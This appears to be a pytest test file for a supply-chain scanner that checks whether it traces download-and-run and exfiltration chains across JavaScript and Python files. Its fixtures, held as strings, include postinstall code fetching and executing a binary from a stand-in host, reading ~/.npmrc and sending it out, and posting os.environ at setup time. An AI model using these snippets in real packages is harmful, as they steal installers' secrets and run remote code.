"""Chains that calls across files close, and those that they do not."""

from __future__ import annotations

import pytest

from fimci import readers, sides
from fimci.look import take
from fimci.model import Capability, Record, Unread
from fimci.reach import settled
from fimci.snapshot import Entry

FETCH = """
const fs = require("fs");
exports.fetched = async function (to) {
  const answer = await fetch("https://left.example/tool");
  fs.writeFileSync(to, await answer.text());
};
"""
RUN = """
const { execFile } = require("child_process");
exports.run = (file) => execFile(file, ["--quiet"]);
"""
READ = """
const { readFileSync } = require("fs");
exports.known = (home) => readFileSync(home + "/.npmrc", "utf8");
"""
SEND = """
exports.send = (text) => fetch("https://left.example/c", { method: "POST", body: text });
"""
SCRIPTS = '{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node start"}}'
START = {
    "a third calls both": (
        'const { fetched } = require("./fetch");\nconst { run } = require("./run");\n'
        'fetched("/opt/tool").then(() => run("/opt/tool"));\n'
    ),
    "in a function": (
        'const { fetched } = require("./fetch");\nconst lib = require("./run");\n'
        "async function main() {\n  await fetched(1);\n  lib.run(process.argv[2]);\n}\nmain();\n"
    ),
    "its results are kept": (
        'const { fetched } = require("./fetch");\nconst { run } = require("./run");\n'
        'const one = fetched("/opt/tool");\nconst two = run("/opt/tool");\n'
    ),
    "in one line": (
        'const { fetched } = require("./fetch"); const { run } = require("./run"); fetched(1); run(1);\n'
    ),
    "it runs itself": (
        'const { fetched } = require("./fetch");\nconst cp = require("child_process");\n'
        'fetched("/opt/tool").then(() => cp.execFile("/opt/tool"));\n'
    ),
}
PYTHON = {
    "pkg/__init__.py": "from .work import main\nmain()\n",
    "pkg/fetch.py": (
        "import requests\n\ndef fetched(to):\n    with open(to, 'wb') as out:\n"
        "        out.write(requests.get('https://left.example/tool').content)\n"
    ),
    "pkg/work.py": (
        "import subprocess\nfrom .fetch import fetched\n\ndef main():\n    fetched('/opt/tool')\n"
        "    subprocess.run(['/opt/tool'])\n"
    ),
}


def entry(path: str, text: str) -> Entry:
    return Entry(path=path, read=lambda: iter([text.encode()]))


def told(files: dict[str, str]) -> set[tuple[str, str, str, str]]:
    entries = [entry(path, text) for path, text in files.items()]
    records: list[Record] = take(entries, sides.recipe(code=True), readers.ALL)
    return {
        (r.path, r.name, r.subject, r.phase)
        for r in settled(records, project=False)
        if isinstance(r, Capability) and r.name in {"download-and-run", "exfiltration"}
    }


@pytest.mark.parametrize("start", START)
def test_one_file_fetches_and_another_runs(start: str) -> None:
    files = {"package.json": SCRIPTS, "start.js": START[start], "fetch.js": FETCH, "run.js": RUN}
    found = told(files)
    assert {(name, phase) for _, name, _, phase in found} == {("download-and-run", "install")}
    assert all(subject.startswith("fetch.js -> ") for _, _, subject, _ in found)


def test_one_file_reads_a_secret_and_another_sends() -> None:
    start = 'const { known } = require("./read");\nconst { send } = require("./send");\nsend(known("."));\n'
    files = {"package.json": SCRIPTS, "start.js": start, "read.js": READ, "send.js": SEND}
    assert told(files) == {("send.js", "exfiltration", "read.js -> left.example", "install")}


@pytest.mark.parametrize("call", ["\nmain()", "; main()", "\nx = main()", "\nif True:\n\n    main()"])
def test_python_fetches_in_one_module_and_runs_in_another(call: str) -> None:
    files = {**PYTHON, "pkg/__init__.py": f"from .work import main{call}\n"}
    assert told(files) == {("pkg/work.py", "download-and-run", "fetch.py -> tool", "import")}


@pytest.mark.parametrize(
    "start",
    [
        'const { fetched } = require("./fetch");\nfetched("/opt/data");\n',
        'const { run } = require("./run");\nrequire("./fetch");\nrun("/opt/tool");\n',
        (
            'const { fetched } = require("./fetch");\nconst { run } = require("./run");\n'
            "exports.main = () => fetched(1).then(run);\nexports.other = () => run(process.env.A);\n"
        ),
    ],
    ids=["fetched alone", "run alone", "nobody calls them"],
)
def test_what_is_not_called_together_is_no_chain(start: str) -> None:
    files = {"package.json": SCRIPTS, "start.js": start, "fetch.js": FETCH, "run.js": RUN}
    assert told(files) == set()


def test_many_functions_before_it_hide_none() -> None:
    others = "".join(
        f"def f{number}():\n    os.system('{number}')\n    fetched('{number}')\n\n" for number in range(99)
    )
    files = dict(PYTHON)
    files["pkg/work.py"] = "import os, subprocess\nfrom .fetch import fetched\n\n" + others
    files["pkg/work.py"] += "def main():\n    fetched('/opt/tool')\n    subprocess.run(['/opt/tool'])\n"
    assert ("pkg/work.py", "download-and-run", "fetch.py -> tool", "import") in told(files)


def test_many_functions_of_javascript_before_it_hide_none() -> None:
    begin = 'const { fetched } = require("./fetch");\nconst cp = require("child_process");\n'
    others = "".join(f"function f{at}() {{ cp.execFile('{at}'); fetched('{at}'); }}\n" for at in range(99))
    end = 'async function main() { await fetched("/opt/tool"); cp.execFile("/opt/tool"); }\nmain();\n'
    files = {"package.json": SCRIPTS, "start.js": begin + others + end, "fetch.js": FETCH}
    assert {(name, phase) for _, name, _, phase in told(files)} == {("download-and-run", "install")}


@pytest.mark.parametrize(
    "between",
    [
        'module.exports = require("./fetch");\n',
        'module.exports = { ...require("./fetch"), run: require("./run").run };\n',
        'exports.fetched = require("./fetch").fetched;\n',
        'const { fetched } = require("./fetch");\nmodule.exports = { fetched };\n',
        'export * from "./fetch";\n',
        'export { fetched } from "./fetch";\n',
        'import { fetched } from "./fetch";\nexport { fetched };\n',
        'tslib_1.__exportStar(require("./fetch"), exports);\n',
        'Object.assign(exports, require("./fetch"));\n',
    ],
)
def test_what_a_file_only_hands_on_is_followed(between: str) -> None:
    start = 'const { fetched } = require("./lib");\nconst { run } = require("./run");\nfetched(1);\nrun(1);\n'
    files = {"package.json": SCRIPTS, "start.js": start, "fetch.js": FETCH, "run.js": RUN, "lib.js": between}
    assert {(name, phase) for _, name, _, phase in told(files)} == {("download-and-run", "install")}
    files["lib.js"] = "exports.fetched = () => 1;\n"
    assert told(files) == set()


def test_files_that_hand_on_one_another_end() -> None:
    start = 'const { fetched } = require("./a");\nfetched(1);\n'
    ring = {"a.js": 'module.exports = require("./b");\n', "b.js": 'module.exports = require("./a");\n'}
    assert told({"package.json": SCRIPTS, "start.js": start, **ring}) == set()


@pytest.mark.parametrize(
    ("package", "call"),
    [
        ("from .work import main", "from pkg import main\nmain()"),
        ("from .work import *", "from pkg import main\nmain()"),
        ("from .work import main as begin", "import pkg\npkg.begin()"),
        ("", "from pkg.work import main\nmain()"),
        ("", "import pkg.work\npkg.work.main()"),
        ("", "import pkg.work as w\nw.main()"),
    ],
)
def test_python_imports_its_own_modules_by_any_name(package: str, call: str) -> None:
    files = {**PYTHON, "pkg/__init__.py": f"{package}\n", "pkg/start.py": f"{call}\n"}
    assert ("pkg/work.py", "download-and-run", "fetch.py -> tool", "import") in told(files)
    files["pkg/start.py"] = call.replace("main()", "main").replace("begin()", "begin") + "\n"
    assert told(files) == set()


def test_what_setup_imports_through_a_quiet_module_runs_at_installation() -> None:
    files = {
        "setup.py": "from setuptools import setup\nfrom pkg import __version__\nsetup(version=__version__)\n",
        "pkg/__init__.py": "from .work import total\n__version__ = '1'\n",
        "pkg/work.py": (
            "import os, requests\nrequests.post('https://left.example/', json=dict(os.environ))\n"
        ),
    }
    assert {(name, phase) for _, name, _, phase in told(files)} == {("exfiltration", "install")}


def test_what_is_not_followed_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    files = {"package.json": SCRIPTS, "start.js": START["in a function"], "fetch.js": FETCH, "run.js": RUN}
    entries = [entry(path, text) for path, text in files.items()]
    records: list[Record] = take(entries, sides.recipe(code=True), readers.ALL)
    assert not [r for r in settled(records, project=False) if isinstance(r, Unread)]
    monkeypatch.setattr("fimci.called._WORK", -1)
    found = [r for r in settled(records, project=False) if isinstance(r, Unread)]
    assert [(r.path, r.part) for r in found] == [("start.js", "calls")]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "a.js",
            "".join(f'const x{at} = require("./x{at}");\n' + f"x{at}.run();\n" * 500 for at in range(9))
            + 'require("child_process");\n',
        ),
        (
            "a/b.py",
            "import os\nos.system('id')\n"
            + "".join(f"from . import x{at}\n" + f"x{at}.run()\n" * 500 for at in range(9)),
        ),
    ],
)
def test_a_file_with_more_calls_than_are_followed_is_told(path: str, text: str) -> None:
    found = take([entry(path, text)], sides.recipe(code=True), readers.ALL)
    assert "more calls of other files than are followed" in {r.why for r in found if isinstance(r, Unread)}
